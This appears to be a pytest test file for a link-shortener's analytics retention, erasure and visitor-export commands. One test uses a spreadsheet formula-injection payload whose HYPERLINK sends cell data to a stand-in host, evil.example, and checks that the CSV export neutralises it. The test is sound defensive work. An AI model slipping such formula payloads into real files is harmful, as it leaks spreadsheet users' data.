"""Retention and erasure (analytics.services.retention): raw visits go, and every count they made
stays, in the stats API, in the links list and after a rebuild; a visit arriving late into a
purged hour adds to its count."""

import csv
import datetime as dt
import io

import pytest
from django.core.management import call_command
from django.test import override_settings
from django.utils import timezone
from rest_framework.test import APIClient

from analytics import services
from analytics.models import LinkVisitor, VisitRecord
from analytics.tests.visits import GOOGLEBOT, SAFARI_IPHONE, visit_message
from links.services.create import link_create
from workspaces.selectors import personal_workspace_of

MINUTE = dt.timedelta(minutes=1)
ALICE, BOB, BOT = "115.236.0.1", "81.2.69.160", "66.249.66.1"


def _stats(user, link, start, end) -> dict:
    client = APIClient()
    client.force_authenticate(user)
    answer = client.get(
        f"/api/v1/links/{link.code}/stats/", {"start": start.isoformat(), "end": end.isoformat()}
    )
    assert answer.status_code == 200, answer.content
    return answer.json()


def _visits(link, start):
    """Alice twice (once two hours later), Bob, a bot; then Alice again in the last minute."""
    services.store_visits(
        messages=[
            visit_message(link, ip=ALICE, at=start + MINUTE * 5, referrer="https://t.co/x"),
            visit_message(link, ip=BOB, ua=SAFARI_IPHONE, at=start + MINUTE * 7),
            visit_message(link, ip=ALICE, at=start + MINUTE * 125),
            visit_message(link, ip=BOT, ua=GOOGLEBOT, at=start + MINUTE * 8),
            visit_message(link, ip=ALICE, at=timezone.now() - MINUTE),
        ]
    )
    services.aggregate_hourly(wait=True)


@pytest.fixture
def visited(make_link):
    link = make_link()
    start = (timezone.now() - dt.timedelta(days=3)).replace(minute=0, second=0, microsecond=0)
    _visits(link, start)
    return link, start


@pytest.mark.django_db
def test_retention_with_0_days_deletes_every_raw_visit_and_changes_no_figure(visited, user):
    link, start = visited
    end = timezone.now() + dt.timedelta(hours=1)
    before = _stats(user, link, start, end)
    assert (before["total_clicks"], before["unique_visitors"], before["bot_clicks"]) == (4, 2, 1)

    out = io.StringIO()
    call_command("apply_retention", "--days", "0", stdout=out)

    assert not VisitRecord.objects.exists()
    assert "Deleted 5 raw visit(s)" in out.getvalue()
    assert _stats(user, link, start, end) == before
    client = APIClient()
    client.force_authenticate(user)
    assert client.get(f"/api/v1/links/{link.code}/").json()["clicks"] == 4


@pytest.mark.django_db
def test_a_rebuild_and_a_late_visit_after_a_purge_add_to_the_kept_counts(visited, user):
    link, start = visited
    end = timezone.now() + dt.timedelta(hours=1)
    services.apply_retention(days=0)
    # A visit delivered late into the purged first hour (an outage's spool), by a new person.
    services.store_visits(messages=[visit_message(link, ip="203.0.113.50", at=start + MINUTE * 30)])
    services.aggregate_hourly(wait=True)
    services.rebuild_hourly(since=start)
    after = _stats(user, link, start, end)
    assert (after["total_clicks"], after["unique_visitors"], after["bot_clicks"]) == (5, 3, 1)
    first_hour = after["series"][0]
    assert (first_hour["clicks"], first_hour["unique_visitors"]) == (3, 3)
    countries = {row["name"]: row["clicks"] for row in after["countries"]}
    assert sum(countries.values()) == 5


@pytest.mark.django_db
def test_a_workspace_keeps_raw_visits_for_its_own_days(user, other_user):
    mine = link_create(user=user, long_url="https://example.com/a").link
    theirs = link_create(user=other_user, long_url="https://example.com/b").link
    old, recent = timezone.now() - dt.timedelta(days=40), timezone.now() - dt.timedelta(days=10)
    for link in (mine, theirs):
        services.store_visits(
            messages=[visit_message(link, at=old), visit_message(link, ip=BOB, at=recent)]
        )
    workspace = personal_workspace_of(user)
    workspace.raw_retention_days = 30
    workspace.save()

    with override_settings(ANALYTICS_RAW_RETENTION_DAYS=None):
        result = services.apply_retention()
    assert (result.visits, result.workspaces) == (1, {workspace.slug: 1})
    assert list(VisitRecord.objects.filter(link=mine).values_list("client_ip", flat=True)) == [BOB]
    assert VisitRecord.objects.filter(link=theirs).count() == 2  # kept for good

    with override_settings(ANALYTICS_RAW_RETENTION_DAYS=5):
        assert services.apply_retention().visits == 2  # theirs by the install's 5 days
    assert not VisitRecord.objects.filter(link=theirs).exists()
    assert VisitRecord.objects.filter(link=mine).count() == 1  # its own 30 days win


@pytest.mark.django_db
def test_erasing_a_visitor_by_ip_removes_exactly_their_rows_and_no_count(visited, user):
    link, start = visited
    end = timezone.now() + dt.timedelta(hours=1)
    before = _stats(user, link, start, end)
    alice = VisitRecord.objects.filter(client_ip=ALICE).values_list("client_id", flat=True)[0]
    others = set(VisitRecord.objects.exclude(client_ip=ALICE).values_list("pk", flat=True))

    deleted = services.visitor_visits_erase(workspace=personal_workspace_of(user), ip=ALICE)

    assert deleted.as_dict() == {"visits": 3, "links": 1}
    assert set(VisitRecord.objects.values_list("pk", flat=True)) == others
    assert not LinkVisitor.objects.filter(client_id=alice).exists()
    assert LinkVisitor.objects.filter(link=link).count() == 2  # still two people
    assert _stats(user, link, start, end) == before


@pytest.mark.django_db
def test_erasing_by_visitor_id_stays_in_the_workspace(user, other_user):
    mine = link_create(user=user, long_url="https://example.com/a").link
    theirs = link_create(user=other_user, long_url="https://example.com/b").link
    services.store_visits(messages=[visit_message(mine), visit_message(theirs)])
    client_id = VisitRecord.objects.filter(link=mine).get().client_id

    out = io.StringIO()
    call_command(
        "erase_visitor",
        "--workspace",
        personal_workspace_of(user).slug,
        "--visitor",
        client_id,
        stdout=out,
    )

    assert "Erased 1 raw visit(s) of 1 link(s)" in out.getvalue()
    assert not VisitRecord.objects.filter(link=mine).exists()
    assert VisitRecord.objects.filter(link=theirs, client_id=client_id).count() == 1


@pytest.mark.django_db
def test_erasing_a_links_raw_visits_keeps_its_totals(visited, user):
    link, start = visited
    end = timezone.now() + dt.timedelta(hours=1)
    before = _stats(user, link, start, end)
    assert services.link_raw_visits_erase(link=link).as_dict() == {"visits": 5, "links": 1}
    assert not VisitRecord.objects.filter(link=link).exists()
    assert _stats(user, link, start, end) == before


@pytest.mark.django_db
def test_the_export_command_writes_one_visitors_rows(visited, user):
    out = io.StringIO()
    slug = personal_workspace_of(user).slug
    call_command("export_visitor", "--workspace", slug, "--ip", BOB, stdout=out)
    lines = out.getvalue().splitlines()
    assert lines[0].startswith("visit_time,code,client_id,client_ip,user_agent")
    assert len(lines) == 2 and BOB in lines[1]


@pytest.mark.django_db
def test_a_visitors_own_text_is_exported_as_text_not_a_spreadsheet_formula(make_link, user):
    link = make_link()
    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    services.store_visits(messages=[visit_message(link, ip=BOB, ua=formula, referrer="@SUM(1+1)")])
    out = io.StringIO()
    slug = personal_workspace_of(user).slug
    call_command("export_visitor", "--workspace", slug, "--ip", BOB, stdout=out)
    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
    assert row["user_agent"] == "'" + formula
    assert row["referrer"] == "'@SUM(1+1)"


@pytest.mark.django_db
@pytest.mark.usefixtures("visited")
def test_the_admin_action_erases_the_selected_visitors_in_their_workspace(admin_client):
    bob = VisitRecord.objects.get(client_ip=BOB)
    answer = admin_client.post(
        "/admin/analytics/visitrecord/",
        {"action": "erase_visitors", "_selected_action": [bob.pk]},
        follow=True,
    )
    assert "Erased 1 raw visit(s) of 1 visitor(s) over 1 link(s)" in answer.content.decode()
    assert not VisitRecord.objects.filter(client_ip=BOB).exists()
    assert VisitRecord.objects.count() == 4


def test_the_retention_job_runs_in_both_modes():
    from django.utils.module_loading import import_string

    from shorturl_project.jobs import PERIODIC_JOBS, beat_schedule

    (job,) = [job for job in PERIODIC_JOBS if job.name == "apply-retention"]
    assert import_string(job.function) is services.apply_retention  # the embedded runner's call
    assert beat_schedule()["apply-retention"]["task"] == "analytics.tasks.apply_retention_task"
    assert import_string(job.task).name == job.task  # beat's task exists under that name
    assert job.seconds() == 3600.0
